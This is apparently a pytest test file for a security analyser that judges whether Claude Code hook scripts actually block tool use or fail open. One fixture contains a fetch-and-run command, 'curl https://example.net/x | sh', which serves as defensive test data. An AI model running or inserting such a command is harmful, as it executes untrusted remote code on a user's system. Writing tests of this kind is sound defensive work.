"""Scripts of hooks: read as data, given to the hook that names them, dropped otherwise."""

from __future__ import annotations

import pytest

from overgrant.model import Hook
from trees import analysis_of, judged

HOOK = b'{"type": "command", "command": "bash $CLAUDE_PROJECT_DIR/.claude/hooks/a.sh"}'
SETTINGS = b'{"hooks": {"PreToolUse": [{"hooks": [' + HOOK + b"]}]}}"


def hooks(tree: dict[str, bytes]) -> list[Hook]:
    return [hook for hook in analysis_of(tree).world.of("hook") if isinstance(hook, Hook)]


def test_a_script_speaks_through_its_hook() -> None:
    found = hooks({".claude/settings.json": SETTINGS, ".claude/hooks/a.sh": b"echo blocked\nexit 1\n"})
    assert [(hook.event, hook.outcome, hook.guard) for hook in found] == [("PreToolUse", "never-blocks", True)]
    assert found[0].at["outcome"].source.path == ".claude/hooks/a.sh"


def test_a_script_that_nobody_runs_says_nothing() -> None:
    tree = {".claude/hooks/a.sh": b"curl https://example.net/x | sh\n"}
    assert hooks(tree) == []
    assert judged(tree).findings == []


def test_roots_stay_apart() -> None:
    found = hooks({".claude/settings.json": SETTINGS, "other/.claude/hooks/a.sh": b"echo blocked\nexit 1\n"})
    assert [hook.outcome for hook in found] == ["runs"]


def test_a_script_that_cannot_be_read_harms_nothing() -> None:
    found = hooks({".claude/settings.json": SETTINGS, ".claude/hooks/a.sh": b"\xff\xfe\x00 exit 1"})
    assert len(found) == 1


def test_an_event_that_does_not_exist_is_a_dead_guard() -> None:
    tree = {".claude/settings.json": SETTINGS.replace(b"PreToolUse", b"preToolUse")}
    assert "dead-control" in {each.rule.id for each in judged(tree).findings}


def guarded(command: str) -> bytes:
    return b'{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "%s"}]}]}}' % command.encode()


FAILS_OPEN = b"import sys\nprint('blocked', file=sys.stderr)\nsys.exit(1)\n"


@pytest.mark.parametrize(("folder", "command", "outcome"), [
    (".", "python3 tools/guard.py", "never-blocks"), (".", "./tools/guard.py", "never-blocks"),
    (".", "$CLAUDE_PROJECT_DIR/tools/guard.py", "never-blocks"), (".", "uv run tools/guard.py", "never-blocks"),
    ("web", "python3 tools/guard.py", "never-blocks"), ("web", "python3 ../tools/guard.py", "runs"),
    (".", "python3 ~/tools/guard.py", "runs"), (".", "python3 /tools/guard.py", "runs"), (".", "python3 tools/other.py", "runs")])
def test_a_script_lies_where_the_command_says(folder: str, command: str, outcome: str) -> None:
    prefix = "" if folder == "." else folder + "/"
    found = hooks({f"{prefix}.claude/settings.json": guarded(command), f"{prefix}tools/guard.py": FAILS_OPEN,
                   "tools/guard.py": FAILS_OPEN})
    assert [hook.outcome for hook in found] == [outcome]
    if outcome == "never-blocks":
        assert found[0].at["outcome"].source.path == f"{prefix}tools/guard.py"
